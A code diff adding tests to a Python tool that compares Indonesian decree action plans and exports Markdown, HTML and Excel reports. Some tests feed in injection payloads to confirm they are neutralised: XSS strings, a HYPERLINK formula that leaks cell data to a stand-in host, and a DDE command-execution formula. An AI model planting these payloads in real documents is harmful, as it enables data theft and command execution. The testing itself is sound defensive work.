@@ -429,7 +429,99 @@ def test_markdown_and_xlsx_carry_the_same_content(result):
     assert book.sheetnames == ["Ringkasan", "Bagan bulan", "Diubah", "Ditambahkan", "Dihapus"]
     assert book["Bagan bulan"].max_row == 1 + len(result.rows)
     assert book["Diubah"].max_row == 1 + 7
-    assert book["Ringkasan"]["A2"].value == "1"
+    summary = book["Ringkasan"]
+    assert summary["A2"].value == 1 and summary["D2"].data_type == "n"  # counts are numbers
+    assert summary.auto_filter.ref and all(c.font.bold for c in summary[1])
+    statuses = {row[3] for row in book["Bagan bulan"].iter_rows(min_row=2, values_only=True)}
+    assert statuses == {"tetap", "diubah", "baru", "dihapus"}
+    fields = {r[3] for r in book["Diubah"].iter_rows(min_row=2, values_only=True)}
+    assert {c["field"] for c in result.changed} == {"area", "months"}
+    assert fields == {"Area", "Bulan"}  # field names in Indonesian, not "months"
+    assert {r[0] for r in book["Ditambahkan"].iter_rows(min_row=2, values_only=True)} <= {
+        "kegiatan",
+        "indikator",
+    }
+    widths = {
+        name: [book[name].column_dimensions[c].width for c in "ABCDEF"]
+        for name in ("Ringkasan", "Diubah")
+    }
+    assert widths["Ringkasan"] != widths["Diubah"]  # each sheet fits its own content
+    assert widths["Ringkasan"][3] < 20  # a count column stays narrow
+
+
+def test_no_english_field_names_in_indonesian_reports(result):
+    text = to_markdown(result)
+    assert "(months)" not in text and "| months |" not in text
+    assert "| Bulan |" in text
+    page = to_html(result)
+    assert "diubah (months)" not in page and "diubah (Bulan)" in page
+    assert "<td>months</td>" not in page
+
+
+def test_reports_switch_to_english(result, monkeypatch):
+    from rencana import messages
+
+    monkeypatch.setattr(messages, "_chosen", "en")
+    text = to_markdown(result)
+    assert (
+        "# Action plan comparison" in text and "## Added (4)" in text and "## Changed (7)" in text
+    )
+    assert "| Months |" in text
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(to_xlsx(result)))
+    assert book.sheetnames == ["Summary", "Month chart", "Changed", "Added", "Removed"]
+
+
+HOSTILE = {
+    "activity": "<script>alert(1)</script>",
+    "indicator": '<img src=x onerror="alert(2)">',
+}
+
+
+def hostile_comparison():
+    b = json.loads(VARIANT.read_text(encoding="utf-8"))
+    b["records"].append(
+        {
+            "area_number": 1,
+            "area": "Manajemen Perubahan",
+            "activity": HOSTILE["activity"],
+            "indicator": HOSTILE["indicator"],
+            "months": [1],
+        }
+    )
+    b["records"].append(
+        {
+            "area_number": 1,
+            "area": "Manajemen Perubahan",
+            "activity": '=HYPERLINK("http://x/?leak="&A1)',
+            "indicator": "=cmd|' /C calc'!A0",
+            "months": [2],
+        }
+    )
+    return compare(load_plan(BASE), plan_from_dict(b, "b"))
+
+
+def test_markdown_escapes_html_from_decree_text():
+    text = to_markdown(hostile_comparison())
+    assert "<script>" not in text and "<img" not in text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert '&lt;img src=x onerror="alert(2)"&gt;' in text
+
+
+def test_compare_workbook_never_writes_formulas():
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(to_xlsx(hostile_comparison())))
+    cells = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith("=")
+    ]
+    assert {c.value for c in cells} >= {"=cmd|' /C calc'!A0"}
+    assert {c.data_type for c in cells} == {"s"}
 
 
 # --------------------------------------------------------------------------- CLI and corpus store
@@ -498,6 +590,10 @@ def test_db_corpus_form(tmp_path):
         app, ["compare", "--db", str(db), "--issuer", "KPU Demak", "--years", "2022", "2023"]
     )
     assert missing.exit_code == 2
+    assert missing.output.strip() == (
+        f"{db}: tidak ada keputusan 'KPU Demak' untuk 2022; yang ada: "
+        "Komisi Pemilihan Umum Kabupaten Jepara (2022, 2023)"
+    )
 
 
 # --------------------------------------------------------------------------- the full PDF path
